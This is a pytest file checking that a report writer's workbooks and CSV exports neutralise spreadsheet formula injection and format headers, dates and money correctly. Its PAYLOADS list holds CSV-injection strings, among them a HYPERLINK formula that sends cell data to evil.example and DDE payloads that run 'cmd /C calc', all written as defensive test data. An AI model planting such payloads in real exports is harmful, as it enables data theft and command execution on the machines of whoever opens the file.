"""The shared writers: finished workbooks, UTF-8 CSV, and text that can never run as a formula."""

from __future__ import annotations

import csv
import zipfile
from datetime import timedelta
from io import StringIO

import openpyxl
import pytest

from incidents.models import Expense
from reports.spec import FIRST_ROW, HEADER_ROW, column_letter
from reports.writers import FORMULA_TRIGGERS, neutralise
from tests.conftest import World
from tests.test_reports_world import START, build, csv_bytes, entry, expense, on_site, xlsx

pytestmark = pytest.mark.django_db

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+2",
]


@pytest.mark.parametrize("text", PAYLOADS)
def test_neutralise_prefixes_a_quote_to_every_formula_trigger(text: str) -> None:
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("text", ["Alice", "", "O'Neil", " =not first", "1+1", "a=b", "'quoted"])
def test_neutralise_leaves_other_text_alone(text: str) -> None:
    assert neutralise(text) == text


def test_the_triggers_are_the_owasp_list() -> None:
    assert set(FORMULA_TRIGGERS) == {"=", "+", "-", "@", "\t", "\r"}


@pytest.fixture
def hostile(world: World) -> World:
    """People and claims whose text a spreadsheet would run, if we let it."""
    world.alice.last_name, world.alice.first_name = PAYLOADS[0], PAYLOADS[1]
    world.alice.save()
    world.alice.agency.name = PAYLOADS[3]
    world.alice.agency.save()
    world.incident.name = "=2+2 surge"
    world.incident.save()
    world.request.qualification.name = PAYLOADS[2]
    world.request.qualification.save()
    d = on_site(world, world.alice)
    entry(world, d, START, "8.00")
    for i, text in enumerate(PAYLOADS):
        expense(world, d, START + timedelta(days=i), Expense.Category.OTHER, "1.00", description=text)
    return world


def _texts(book: openpyxl.Workbook) -> list[str]:
    return [
        cell.value.replace("_x000D_", "\r")  # the OOXML escape of a carriage return
        for ws in book.worksheets
        for row in ws.iter_rows()
        for cell in row
        if isinstance(cell.value, str) and cell.data_type != "f"
    ]


@pytest.mark.parametrize("kind", ["finance", "demobilization", "logistics", "roster"])
def test_no_text_cell_of_any_workbook_starts_like_a_formula(hostile: World, kind: str) -> None:
    book = openpyxl.load_workbook(xlsx(build(kind, incident="WA-2026-01")))
    texts = _texts(book)
    assert texts, "the workbook has text"
    assert not [t for t in texts if t.startswith(FORMULA_TRIGGERS)]
    # The only formulas are the report's own (finance's summary and burn), none from people's text.
    formulas = [
        c.value for ws in book.worksheets for row in ws.iter_rows() for c in row if c.data_type == "f"
    ]
    assert all("HYPERLINK" not in f and "cmd" not in f for f in formulas)


def test_the_hostile_text_is_kept_verbatim_after_the_quote(hostile: World) -> None:
    book = openpyxl.load_workbook(xlsx(build("finance", incident="WA-2026-01")))
    # XlsxWriter stores a carriage return as the OOXML escape _x000D_, which Excel reads back as CR.
    descriptions = [c.value.replace("_x000D_", "\r") for c in book["Expenses"]["G"][FIRST_ROW:]]
    assert sorted(descriptions) == sorted("'" + p for p in PAYLOADS)
    assert book["Labor"].cell(FIRST_ROW + 1, 2).value == f"'{PAYLOADS[0]}, {PAYLOADS[1]}"
    assert book["Labor"]["A1"].value.startswith("WA-2026-01 =2+2 surge")  # not at the start: left as is


@pytest.mark.parametrize(
    ("kind", "sheet"), [("finance", "expenses"), ("finance", "labor"), ("roster", "people")]
)
def test_no_csv_cell_starts_like_a_formula(hostile: World, kind: str, sheet: str) -> None:
    data = csv_bytes(build(kind, incident="WA-2026-01"), sheet).decode("utf-8-sig")
    cells = [cell for row in csv.reader(StringIO(data)) for cell in row]
    assert not [c for c in cells if c.startswith(FORMULA_TRIGGERS)]
    if sheet == "expenses":
        assert sum(1 for c in cells if c.startswith("'") and c[1:] in PAYLOADS) >= len(PAYLOADS)


def test_every_sheet_has_title_filters_and_generation_lines(world: World) -> None:
    world.incident.cost_code = "FEMA-4481-DR-WA"
    world.incident.save()
    report = build("finance", incident="WA-2026-01", facility=world.request.facility.code)
    book = openpyxl.load_workbook(xlsx(report))
    for ws in book.worksheets:
        assert ws["A1"].value == f"WA-2026-01 Respiratory surge — {report.title}: {ws.title}"
        assert ws["A1"].font.b
        assert ws["A2"].value.startswith(f"Filters: facility {world.request.facility.code} · agency all")
        # Generated at 22:30 UTC on Dec 20: 14:30 in Seattle, said in the incident's own zone.
        assert ws["A3"].value.startswith("Generated 2026-12-20 14:30 PST (America/Los_Angeles)")


@pytest.mark.parametrize("kind", ["finance", "demobilization", "logistics", "roster"])
def test_headers_are_bold_frozen_filtered_and_sized(world: World, kind: str) -> None:
    d = on_site(world, world.alice)
    entry(world, d, START, "8.00")
    report = build(kind, incident="WA-2026-01")
    book = openpyxl.load_workbook(xlsx(report))
    for sheet in report.sheets:
        ws = book[sheet.name]
        header = ws[HEADER_ROW + 1]
        assert [c.value for c in header] == [c.header for c in sheet.columns]
        assert all(c.font.b for c in header)
        assert ws.freeze_panes == f"A{FIRST_ROW + 1}"
        last = column_letter(len(sheet.columns) - 1)
        assert ws.auto_filter.ref.startswith(f"A{HEADER_ROW + 1}:{last}")
        widths = {
            i: dim.width for dim in ws.column_dimensions.values() for i in range(dim.min, dim.max + 1)
        }  # XlsxWriter writes neighbours of one width and format as one <col min max> range
        assert [widths[i + 1] for i in range(len(sheet.columns))] == pytest.approx(
            [c.width for c in sheet.columns], abs=1
        )


def test_dates_money_hours_and_rates_carry_number_formats(world: World) -> None:
    d = on_site(world, world.alice)
    entry(world, d, START, "7.50", "1.25")
    ws = openpyxl.load_workbook(xlsx(build("finance", incident="WA-2026-01")))["Labor"]
    row = FIRST_ROW + 1
    assert ws.cell(row, 1).number_format == "yyyy-mm-dd" and ws.cell(row, 1).is_date
    assert ws.cell(row, 7).number_format == "#,##0.00"
    assert ws.cell(row, 9).number_format == "$#,##0.00"
    assert ws.cell(row, 11).number_format == "0.00%"
    assert ws.cell(row, 15).number_format == "$#,##0.00"


def test_the_workbook_is_a_real_xlsx_written_in_constant_memory(world: World) -> None:
    data = xlsx(build("logistics", incident="WA-2026-01"))
    with zipfile.ZipFile(data) as z:
        assert "xl/workbook.xml" in z.namelist()
        # constant-memory mode writes strings inline: no shared-strings table to hold in memory
        assert "xl/sharedStrings.xml" not in z.namelist()


def test_csv_has_a_bom_crlf_lines_and_a_header_first(world: World) -> None:
    data = csv_bytes(build("roster", incident="WA-2026-01"), "people")
    assert data.startswith(b"\xef\xbb\xbfName,Email,Phone,Agency")
    assert data.endswith(b"\r\n")
